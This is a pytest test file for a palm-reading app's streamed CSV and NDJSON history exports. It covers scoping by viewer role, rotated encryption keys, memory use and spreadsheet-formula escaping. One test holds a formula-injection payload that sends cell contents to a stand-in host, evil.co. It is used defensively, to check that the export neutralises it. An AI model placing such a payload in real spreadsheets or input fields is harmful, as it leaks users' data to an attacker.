"""History's streamed exports: scope, spreadsheet guards, and the same bytes as the plain
row-by-row export (ORM rows, one decryption per value) on random data and rotated keys."""

from __future__ import annotations

import csv
import io
import json
import random
import tracemalloc
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from cryptography.fernet import Fernet
from sqlalchemy import Engine, func, insert, select
from sqlalchemy import text as sql_text
from sqlalchemy.orm import Session

from palm.db import make_engine, make_session_factory
from palm.explore import export, history
from palm.explore.query import SHOW_EMAIL_PREFERENCE, ExploreFilter, Viewer
from palm.infra import KeyedMultiFernet, ensure_dev_key
from palm.models import LineResult, Preference, Reading, UnreadableDataError
from palm.vocabulary import Role
from tests.explore.data import BASE_TIME, ReadingSpec, add_reading, days

SECRET = b"test-secret"


@pytest.fixture
def people(make_account) -> dict[str, int]:
    return {
        "ana": make_account("ana@example.com"),
        "ben": make_account("ben@example.com"),
        "ada": make_account("ada@example.com", Role.ANALYST),
    }


def viewer(user_id: int, role: Role = Role.USER) -> Viewer:
    return Viewer(user_id, role, SECRET)


# The export as it was before it read raw rows: ORM-typed rows (each sealed value decrypted by
# its column type), one HistoryRow each, one writerow each. The new one must match it byte
# for byte.
def _reference_cells(row: history.HistoryRow) -> list[object]:
    return [
        row.id,
        row.created_at.isoformat(),
        export.spreadsheet_safe(row.owner),
        export.spreadsheet_safe(row.filename),
        row.hand or "",
        row.hand_shape or "",
        row.status,
        row.engine or "",
        " ".join(row.analysis_types),
        row.lines_found,
        "" if row.mean_confidence is None else row.mean_confidence,
        export.spreadsheet_safe(row.summary or ""),
    ]


def reference_csv(session: Session, who: Viewer, criteria: ExploreFilter) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(export.CSV_COLUMNS)
    for values in session.execute(history.rows_query(session, who, criteria)):
        writer.writerow(_reference_cells(history._row(who, values)))
    return buffer.getvalue()


def reference_ndjson(session: Session, who: Viewer, criteria: ExploreFilter) -> str:
    lines = []
    for values in session.execute(history.rows_query(session, who, criteria)):
        row = history._row(who, values)
        cells = dict(zip(export.CSV_COLUMNS, _reference_cells(row), strict=True))
        cells.update(
            owner=row.owner,
            filename=row.filename,
            summary=row.summary,
            analysis_types=row.analysis_types,
            mean_confidence=row.mean_confidence,
        )
        lines.append(json.dumps(cells, ensure_ascii=False, separators=(",", ":")) + "\n")
    return "".join(lines)


TRICKY = [
    "palm.jpg",
    "=HYPERLINK(1)",
    "+1.jpg",
    "-x",
    "@SUM(1)",
    "\tx",
    "\rx",
    'a "quoted", comma.jpg',
    "line\nbreak.png",
    "ünïcødé ✋.jpg",
    "",
    " leading space",
]


def random_text(rng: random.Random) -> str:
    return rng.choice(TRICKY) + "".join(
        rng.choice("ab ,\"'=\n✋é") for _ in range(rng.randrange(6))
    )


def seed_random(session: Session, rng: random.Random, owners: list[int], n: int) -> None:
    """n readings of every shape the export meets: NULL hands, summaries and types, ties on
    the timestamp, whole seconds, hostile text, lines found or not."""
    for owner in owners:
        if rng.random() < 0.6:
            value = json.dumps(rng.random() < 0.6)
            session.add(Preference(user_id=owner, key=SHOW_EMAIL_PREFERENCE, value=value))
    rows = []
    for _ in range(n):
        done = rng.random() < 0.8
        micro = 0 if rng.random() < 0.3 else rng.randrange(1_000_000)
        rows.append(
            {
                "user_id": rng.choice(owners),
                "batch_id": "b",
                "filename": random_text(rng),
                "hand": rng.choice(["left", "right", None]),
                "analysis_types": rng.choice([[], ["life"], ["love", "career"], None]),
                "status": "done" if done else rng.choice(["queued", "failed"]),
                "engine": rng.choice(["offline", "llm:gpt-4o-mini"]) if done else None,
                "created_at": BASE_TIME
                - timedelta(seconds=rng.randrange(n // 3 + 1), microseconds=micro),
                "hand_shape": rng.choice(["earth", "water", None]),
                "summary": random_text(rng) if rng.random() < 0.7 else None,
            }
        )
    before = session.scalar(select(func.max(Reading.id))) or 0
    session.execute(insert(Reading), rows)
    ids = session.scalars(select(Reading.id).where(Reading.id > before)).all()
    lines = [
        {
            "reading_id": reading_id,
            "line": line,
            "found": rng.random() < 0.6,
            "polyline": [],
            "confidence": round(rng.random(), rng.choice([1, 3, 6])),
        }
        for reading_id in ids
        for line in rng.sample(["heart", "head", "life", "fate"], rng.randrange(5))
    ]
    if lines:
        session.execute(insert(LineResult), lines)
    session.flush()


FILTERS = [
    ExploreFilter(),
    ExploreFilter(engines=("llm:gpt-4o-mini",)),
    ExploreFilter(hands=("left",), statuses=("done",)),
    ExploreFilter(line="fate", line_found=True, confidence_min=0.3),
    ExploreFilter(line_found=False, confidence_max=0.4),  # the export's line filter is a set
    ExploreFilter(analysis_types=("love",)),
]


def test_exports_match_the_row_by_row_export_on_random_data(
    session: Session, people: dict[str, int], make_account
) -> None:
    rng = random.Random(20261201)
    owners = [people["ana"], people["ben"], *(make_account(f"p{i}@example.com") for i in range(8))]
    seed_random(session, rng, owners, 700)
    viewers = [
        viewer(people["ada"], Role.ANALYST),
        Viewer(people["ada"], Role.ADMIN, b""),
        viewer(people["ana"]),
        viewer(owners[4]),
    ]
    for who in viewers:
        for criteria in FILTERS:
            expected = reference_csv(session, who, criteria)
            chunks = list(export.export_csv(session, who, criteria, chunk_rows=97))
            assert "".join(chunks) == expected, (who, criteria)
            lines = "".join(export.export_ndjson(session, who, criteria, chunk_rows=61))
            assert lines == reference_ndjson(session, who, criteria), (who, criteria)
    everyone = "".join(export.export_csv(session, viewers[0], ExploreFilter()))
    assert everyone.count("\n") > 700 and "'=HYPERLINK(1)" in everyone


@pytest.fixture
def rotated(db_url: str, tmp_path: Any) -> Iterator[tuple[Engine, Engine]]:
    """Two engines on the test's database: one under an old key, one under (new, old)."""
    old = ensure_dev_key(tmp_path / "data").encode()  # the conftest cipher's key
    both = make_engine(db_url, cipher=KeyedMultiFernet([Fernet.generate_key(), old]))
    only_old = make_engine(db_url, cipher=KeyedMultiFernet([old]))
    yield both, only_old
    both.dispose()
    only_old.dispose()


def test_rows_sealed_under_an_older_key_export_alike(
    session: Session, people: dict[str, int], rotated: tuple[Engine, Engine]
) -> None:
    rng = random.Random(3)
    seed_random(session, rng, [people["ana"], people["ben"]], 150)  # under the old key
    session.commit()
    both, only_old = rotated
    with make_session_factory(both)() as newer:
        seed_random(newer, rng, [people["ana"]], 150)  # under the new key
        newer.commit()
        analyst = viewer(people["ada"], Role.ANALYST)
        text = "".join(export.export_csv(newer, analyst, ExploreFilter(), chunk_rows=50))
        assert text == reference_csv(newer, analyst, ExploreFilter())
        assert text.count("\n") > 300
    with make_session_factory(only_old)() as older, pytest.raises(UnreadableDataError):
        list(export.export_csv(older, viewer(people["ada"], Role.ANALYST), ExploreFilter()))


def test_memory_stays_at_one_chunk_however_many_rows_match(
    session: Session, people: dict[str, int]
) -> None:
    def peak(rows: int) -> int:
        session.execute(
            insert(Reading),
            [
                {
                    "user_id": people["ana"],
                    "batch_id": "b",
                    "filename": f"palm-{i}.jpg" * 3,
                    "status": "done",
                    "summary": "a left hand " * 8,
                    "analysis_types": ["life"],
                    "created_at": BASE_TIME - days(i),
                }
                for i in range(rows)
            ],
        )
        session.flush()
        tracemalloc.start()
        try:
            for _chunk in export.export_csv(
                session, viewer(people["ana"]), ExploreFilter(), chunk_rows=200
            ):
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small = peak(600)
    large = peak(5400)  # 6,000 rows in all: ten times as many
    assert large < small * 1.5, (small, large)


def test_csv_streams_the_whole_filtered_set_in_chunks_and_respects_scope(
    session: Session, people: dict[str, int]
) -> None:
    for i in range(25):
        add_reading(session, ReadingSpec(people["ana"], created_at=BASE_TIME - days(i % 4)))
    add_reading(session, ReadingSpec(people["ben"]))
    chunks = list(export.export_csv(session, viewer(people["ana"]), ExploreFilter(), chunk_rows=10))
    assert len(chunks) == 3  # 10 + 10 + 5 rows: streamed, not one string
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert len(rows) == 25 and {row["owner"] for row in rows} == {"you"}
    assert rows[0]["lines_found"] == "3" and rows[0]["mean_confidence"] == "0.8"
    everyone = "".join(
        export.export_csv(session, viewer(people["ada"], Role.ANALYST), ExploreFilter())
    )
    assert len(list(csv.DictReader(io.StringIO(everyone)))) == 26
    assert "@example.com" not in everyone


def test_csv_cells_a_person_wrote_never_start_a_spreadsheet_formula(
    session: Session, people: dict[str, int]
) -> None:
    hostile = '=HYPERLINK("http://evil.co/?d="&A1,"open")'
    for name in (hostile, "+1.jpg", "-x.jpg", "@SUM(1).jpg", "palm.jpg"):
        add_reading(session, ReadingSpec(people["ana"], filename=name))
    text = "".join(export.export_csv(session, viewer(people["ana"]), ExploreFilter()))
    names = {row["filename"] for row in csv.DictReader(io.StringIO(text))}
    assert names == {"'" + hostile, "'+1.jpg", "'-x.jpg", "'@SUM(1).jpg", "palm.jpg"}


def test_csv_of_nothing_is_just_the_header(session: Session, people: dict[str, int]) -> None:
    text = "".join(export.export_csv(session, viewer(people["ana"]), ExploreFilter()))
    assert text.strip() == ",".join(export.CSV_COLUMNS)


def test_a_type_filter_on_sqlite_is_tested_on_the_date_index_before_any_row_is_read(
    session: Session, people: dict[str, int]
) -> None:
    """The export of a type filter walks the index that holds the types with the date order
    (ix_readings_created_types), not the date index that sends it to every reading's row."""
    if session.get_bind().dialect.name != "sqlite":
        pytest.skip("SQLite only: PostgreSQL cannot index a JSON column")
    query = history.rows_query(
        session,
        viewer(people["ada"], Role.ANALYST),
        ExploreFilter(analysis_types=("love",)),
        export.EXPORT_COLUMNS,
        whole_set=True,
    )
    compiled = query.compile(session.get_bind(), compile_kwargs={"literal_binds": True})
    plan = [row[-1] for row in session.execute(sql_text(f"EXPLAIN QUERY PLAN {compiled}"))]
    assert any("USING INDEX ix_readings_created_types" in step for step in plan), plan
